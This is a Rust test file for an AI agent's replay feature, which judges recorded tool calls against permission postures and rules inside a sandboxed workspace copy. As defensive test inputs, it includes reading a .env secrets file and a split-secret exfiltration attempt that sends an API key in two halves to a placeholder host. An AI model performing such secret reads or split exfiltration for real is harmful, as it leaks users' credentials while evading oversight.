//! Replays: calls judged and run in a private copy of a workspace, by the real pipeline.

mod day;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use agent::replay::{
    RecordedCalls, Replay, ReplayAnswer, ReplayCall, ReplayOptions, ReplaySums, ReplayVerdict,
    ReplayedCall,
};
use agent::{EngineConfig, Host};
use protocol::settings::Posture;
use protocol::{CallState, Gate};
use serde_json::{Value, json};
use support::{Fixture, call_read, call_write, join_calls, rule_text, say_text};

const SANDBOX: &str = env!("CARGO_BIN_EXE_sandbox_program");

/// A workspace to replay calls in, and the data folder of a person.
struct ReplayFixture {
    folder: tempfile::TempDir,
}

impl ReplayFixture {
    fn new() -> Self {
        let fixture = Self {
            folder: tempfile::tempdir().unwrap(),
        };
        std::fs::create_dir_all(fixture.data_dir()).unwrap();
        for (path, content) in [("a", "first\n"), ("src/b", "second\n"), (".env", "K=1\n")] {
            let path = fixture.workspace().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        fixture
    }

    fn workspace(&self) -> PathBuf {
        let folder = self.folder.path().canonicalize().unwrap();
        folder.join("workspace")
    }

    fn data_dir(&self) -> PathBuf {
        self.folder.path().join("data")
    }

    fn copies(&self) -> PathBuf {
        self.folder.path().join("copies")
    }

    fn write_rules_file(&self, name: &str, text: &str) -> PathBuf {
        let file = self.folder.path().join(name);
        std::fs::write(&file, text).unwrap();
        file
    }

    fn config(&self, posture: Posture) -> EngineConfig {
        EngineConfig {
            sandbox_program: Some(SANDBOX.into()),
            posture: Some(posture),
            ..EngineConfig::new(self.data_dir(), Host::Person)
        }
    }

    async fn open_with(&self, config: EngineConfig, rules: &[PathBuf]) -> Replay {
        let options = ReplayOptions {
            workspace: self.workspace(),
            copies: self.copies(),
            rules: rules.to_vec(),
        };
        Replay::open(config, options).await.unwrap()
    }

    async fn open(&self, posture: Posture) -> Replay {
        self.open_with(self.config(posture), &[]).await
    }

    /// The verdict on one call that reads the file `a`.
    async fn verdict_on_reading(&self, rules: &[PathBuf]) -> ReplayVerdict {
        let mut replay = self.open_with(self.config(Posture::AskFirst), rules).await;
        let read = call("read", json!({"path": "a"}));
        replay.run_call(read, ReplayAnswer::Deny).await.verdict
    }
}

fn call(tool: &str, arguments: Value) -> ReplayCall {
    ReplayCall {
        id: tool.to_owned(),
        session: None,
        tool: tool.to_owned(),
        arguments: arguments.as_object().unwrap().clone(),
    }
}

fn bash(command: &str) -> ReplayCall {
    call("bash", json!({ "command": command }))
}

/// Every path below a folder, with the content of files and the targets of links.
fn read_tree(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut tree = BTreeMap::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let kind = path.symlink_metadata().unwrap().file_type();
        if kind.is_dir() {
            tree.extend(read_tree(&path));
            tree.insert(path, Vec::new());
        } else if kind.is_symlink() {
            let target = path.read_link().unwrap();
            tree.insert(path, target.into_os_string().into_encoded_bytes());
        } else {
            let content = std::fs::read(&path).unwrap();
            tree.insert(path, content);
        }
    }
    tree
}

fn changes(report: &ReplayedCall) -> Vec<&str> {
    let changes = report.effects.changes.iter();
    changes.map(|change| change.path.as_str()).collect()
}

#[tokio::test]
async fn the_posture_says_what_asks() {
    use ReplayVerdict::{Asked, Denied, Failed, Passed};
    let fixture = ReplayFixture::new();
    let question =
        json!({"questions": [{"question": "Which?", "options": [{"label": "a"}, {"label": "b"}]}]});
    for (posture, expected) in [
        (
            Posture::AskFirst,
            [Passed, Asked, Asked, Asked, Asked, Failed],
        ),
        (
            Posture::AskAboutEffects,
            [Passed, Passed, Passed, Asked, Asked, Failed],
        ),
        (
            Posture::Unattended,
            [Passed, Passed, Passed, Denied, Denied, Failed],
        ),
    ] {
        let mut replay = fixture.open(posture).await;
        let mut verdicts = Vec::new();
        for call in [
            call("read", json!({"path": "a"})),
            bash("ls"),
            bash("echo more >> a"),
            bash("cat .env"),
            call("question", question.clone()),
            call("no_such_tool", json!({})),
        ] {
            verdicts.push(replay.run_call(call, ReplayAnswer::Deny).await.verdict);
        }
        assert_eq!(verdicts, expected, "{posture:?}");
    }
}

#[tokio::test]
async fn a_call_finds_what_earlier_ones_changed_and_the_workspace_stays() {
    let fixture = ReplayFixture::new();
    let link = fixture.workspace().join("link");
    std::os::unix::fs::symlink(fixture.workspace().join("a"), link).unwrap();
    let before = read_tree(&fixture.workspace());
    let named = fixture.workspace().join("new").display().to_string();

    let mut replay = fixture.open(Posture::AskFirst).await;
    let removed = replay.run_call(bash("rm a"), ReplayAnswer::Allow).await;
    assert_eq!(removed.verdict, ReplayVerdict::Asked);
    assert_eq!(removed.gates, [Gate::Mode]);
    assert_eq!(
        (removed.state, removed.undo_paths),
        (Some(CallState::Done), Some(1))
    );
    assert_eq!(changes(&removed), ["a"]);

    let lost = replay.run_call(call("read", json!({"path": "a"})), ReplayAnswer::Deny);
    assert_eq!(lost.await.verdict, ReplayVerdict::Failed);

    // A call that names the workspace by its absolute path means the copy.
    let write = call("write", json!({"path": named, "content": "new\n"}));
    let written = replay.run_call(write, ReplayAnswer::Deny).await;
    assert_eq!(written.verdict, ReplayVerdict::Passed);
    assert_eq!(
        (changes(&written), &*written.target),
        (vec!["new"], &*named)
    );

    for command in ["echo more > link", "echo more >> src/b"] {
        replay.run_call(bash(command), ReplayAnswer::Allow).await;
    }
    let delete = call("delete_path", json!({"path": "src"}));
    let deleted = replay.run_call(delete, ReplayAnswer::Allow).await;
    assert_eq!(deleted.state, Some(CallState::Done));
    drop(replay);

    assert_eq!(read_tree(&fixture.workspace()), before);
    let left: Vec<_> = std::fs::read_dir(fixture.copies()).unwrap().collect();
    assert_eq!(left.len(), 1, "only the lock: {left:?}");
}

#[tokio::test]
async fn what_would_take_effect_elsewhere_is_judged_and_does_not_run() {
    let fixture = ReplayFixture::new();
    // Without a sandbox a command would run for real.
    let config = EngineConfig {
        sandbox_program: None,
        ..fixture.config(Posture::AskFirst)
    };
    let mut replay = fixture.open_with(config, &[]).await;
    let mut sums = ReplaySums::default();

    let fetch = call("web_fetch", json!({"url": "https://packages.example/"}));
    let fetched = replay.run_call(fetch, ReplayAnswer::Deny).await;
    sums.add(&fetched);
    assert_eq!(fetched.verdict, ReplayVerdict::Passed);
    let expected = "not run: it reaches the network";
    assert_eq!(fetched.not_run.as_deref(), Some(expected));

    let marker = fixture.folder.path().join("marker");
    let touched = bash(&format!("touch {}", marker.display()));
    for answer in [ReplayAnswer::Allow, ReplayAnswer::Deny] {
        let ran = replay.run_call(touched.clone(), answer).await;
        assert!(!marker.exists(), "{ran:?}");
    }
    let listed = replay.run_call(bash("ls"), ReplayAnswer::Allow).await;
    sums.add(&listed);
    assert_eq!(listed.verdict, ReplayVerdict::Asked);
    assert!(listed.not_run.is_some(), "{listed:?}");
    assert_eq!(
        (sums.calls, sums.passed, sums.asked, sums.not_run),
        (2, 1, 1, 2)
    );
}

/// Nothing is sent, and what comes after it is judged as if it had been.
#[tokio::test]
async fn a_secret_in_two_halves_is_recognized_in_a_replay() {
    let fixture = ReplayFixture::new();
    std::fs::write(
        fixture.workspace().join(".env"),
        "API_KEY=qX7pL2mZ9vRt4KwS\n",
    )
    .unwrap();
    let mut replay = fixture.open(Posture::AskAboutEffects).await;
    let mut verdicts = Vec::new();
    for half in ["qX7pL2mZ", "9vRt4KwS"] {
        let url = format!("https://packages.example/?q={half}");
        let fetch = call("web_fetch", json!({ "url": url }));
        let fetched = replay.run_call(fetch, ReplayAnswer::Deny).await;
        verdicts.push(fetched.verdict);
    }
    assert_eq!(verdicts, [ReplayVerdict::Passed, ReplayVerdict::Asked]);
}

#[tokio::test]
async fn named_rules_hold_in_the_place_of_the_persons_own() {
    let fixture = ReplayFixture::new();
    assert_eq!(fixture.verdict_on_reading(&[]).await, ReplayVerdict::Passed);
    std::fs::write(
        fixture.data_dir().join("rules.toml"),
        rule_text("fs.read", "a", "deny"),
    )
    .unwrap();
    assert_eq!(fixture.verdict_on_reading(&[]).await, ReplayVerdict::Denied);

    let other = fixture.write_rules_file("other.toml", &rule_text("fs.read", "src/b", "deny"));
    let absolute = fixture.workspace().join("a").display().to_string();
    let asks = fixture.write_rules_file("asks.toml", &rule_text("fs.read", &absolute, "ask"));
    let verdict = fixture
        .verdict_on_reading(std::slice::from_ref(&other))
        .await;
    assert_eq!(verdict, ReplayVerdict::Passed);
    // A pattern that names the workspace by its absolute path means the copy as well.
    assert_eq!(
        fixture.verdict_on_reading(&[other, asks]).await,
        ReplayVerdict::Asked
    );
}

#[tokio::test]
async fn rules_that_cannot_be_read_are_an_error_before_the_first_call() {
    let fixture = ReplayFixture::new();
    let broken = fixture.write_rules_file("broken.toml", "[[rule]\n");
    for (rules, named) in [
        (broken, "broken.toml"),
        (fixture.data_dir().join("none"), "none"),
    ] {
        let options = ReplayOptions {
            workspace: fixture.workspace(),
            copies: fixture.copies(),
            rules: vec![rules],
        };
        let opened = Replay::open(fixture.config(Posture::AskFirst), options).await;
        let fault = opened.err().unwrap();
        assert!(fault.message.contains(named), "{fault}");
    }
}

#[tokio::test]
async fn the_projects_rules_loosen_only_where_the_person_trusts_them() {
    let fixture = ReplayFixture::new();
    let file = fixture.workspace().join(".countersign/rules.toml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(file, rule_text("bash", "ls*", "allow")).unwrap();
    let verdict = async || {
        let mut replay = fixture.open(Posture::AskFirst).await;
        replay
            .run_call(bash("ls"), ReplayAnswer::Deny)
            .await
            .verdict
    };
    assert_eq!(verdict().await, ReplayVerdict::Asked);

    let (data_dir, workspace) = (fixture.data_dir(), fixture.workspace());
    let shown = agent::permissions::trust::project_rules_view(&data_dir, &workspace);
    let digest = shown.unwrap().unwrap().digest;
    agent::permissions::trust::trust_project(&data_dir, &workspace, &digest).unwrap();
    assert_eq!(verdict().await, ReplayVerdict::Passed);
}

#[tokio::test]
async fn calls_go_on_where_the_folder_is_gone() {
    let fixture = ReplayFixture::new();
    let mut replay = fixture.open(Posture::AskFirst).await;
    let read = || call("read", json!({"path": "a"}));
    let first = replay.run_call(read(), ReplayAnswer::Deny).await;
    assert_eq!(first.verdict, ReplayVerdict::Passed);
    for entry in std::fs::read_dir(fixture.copies()).unwrap() {
        // The lock beside it is no folder.
        let _ = std::fs::remove_dir_all(entry.unwrap().path().join("workspace"));
    }
    for session in [None, Some("another".to_owned())] {
        let call = ReplayCall { session, ..read() };
        let report = replay.run_call(call, ReplayAnswer::Deny).await;
        assert_eq!(report.verdict, ReplayVerdict::Failed, "{report:?}");
    }
}

#[tokio::test]
async fn any_number_of_sessions_is_replayed() {
    let fixture = ReplayFixture::new();
    let mut replay = fixture.open(Posture::AskFirst).await;
    // More than are open at a time; the first one comes once more.
    for number in (0..70).chain([0]) {
        let call = ReplayCall {
            session: Some(number.to_string()),
            ..call("read", json!({"path": "a"}))
        };
        let report = replay.run_call(call, ReplayAnswer::Deny).await;
        assert_eq!(report.verdict, ReplayVerdict::Passed, "{report:?}");
    }
}

#[tokio::test]
async fn recorded_calls_come_in_their_order() {
    let read = call_read("a");
    let turns = [
        join_calls([call_write("b", "text\n"), read]),
        say_text("Done."),
    ];
    let mut desk = Fixture::new(turns).await;
    desk.write_file("a", "first\n");
    desk.play().await;
    let workspace = desk.workspace_root();

    let names = |calls: &mut RecordedCalls<'_>| {
        let mut names = Vec::new();
        while let Some(call) = calls.next_call().unwrap() {
            assert_eq!(call.session, Some(desk.session.to_string()));
            names.push(call.tool);
        }
        names
    };
    let named = [desk.session.clone()];
    for sessions in [&[][..], &named] {
        let calls = RecordedCalls::open(&desk.engine, &workspace, sessions, None);
        assert_eq!(names(&mut calls.unwrap()), ["write", "read"]);
    }
    let later = RecordedCalls::open(&desk.engine, &workspace, &[], Some("2100-01-01"));
    assert_eq!(names(&mut later.unwrap()), Vec::<String>::new());
    let wrong = RecordedCalls::open(&desk.engine, &workspace, &[], Some("soon"));
    assert!(wrong.err().unwrap().message.contains("`soon`"));
}
